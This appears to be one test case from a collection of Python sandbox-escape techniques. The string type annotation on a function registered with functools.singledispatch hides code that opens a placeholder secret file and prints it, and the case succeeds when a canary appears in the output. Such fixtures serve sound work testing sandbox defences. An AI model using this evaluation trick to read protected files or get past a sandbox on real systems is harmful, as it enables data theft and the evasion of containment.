# class: string-eval
# technique: functools.singledispatch resolves annotations given as text
# success: output_has @@CANARY@@
import functools
@functools.singledispatch
def f(x): pass
def g(x: "print(__import__('builtins').open('@@SECRET@@').read())"): pass
f.register(g)
